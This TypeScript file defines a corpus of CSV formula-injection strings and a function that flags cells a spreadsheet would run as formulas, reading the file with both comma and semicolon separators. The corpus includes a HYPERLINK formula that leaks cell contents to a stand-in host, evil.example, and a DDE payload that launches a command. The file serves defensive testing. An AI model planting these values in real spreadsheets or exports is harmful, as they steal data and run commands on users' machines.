// The formula corpus of issue 12 (F7) and a check that a CSV has no cell a spreadsheet would run.
import { parse } from 'csv-parse/sync';

/** Text that a spreadsheet runs as a formula when a CSV cell starts with it (OWASP). */
export const FORMULA_CORPUS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Klik her")',
  '+1+1',
  '@SUM(A1)',
  '-2+3',
  '\t=1',
  '\r=1',
  "=cmd|' /C calc'!A0",
] as const;

const TRIGGER = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[+-]?(?:\d+(?:[.,]\d+)*|[.,]\d+)(?:[eE][+-]?\d+)?$/;

/**
 * The cells of a CSV that a spreadsheet would run as a formula, read with either list separator
 * (a Danish Excel splits on `;`, an English one on `,`): each starts with `=`, `+`, `-`, `@`, a
 * tab or a carriage return and is not a plain number. Empty when the file is safe.
 */
export function formulaCells(csv: string): string[] {
  const bad: string[] = [];
  for (const delimiter of [',', ';']) {
    const rows = parse(csv, { delimiter, relax_quotes: true, relax_column_count: true }) as
      string[][] | undefined;
    for (const cell of (rows ?? []).flat())
      if (TRIGGER.test(cell) && !PLAIN_NUMBER.test(cell)) bad.push(cell);
  }
  return bad;
}
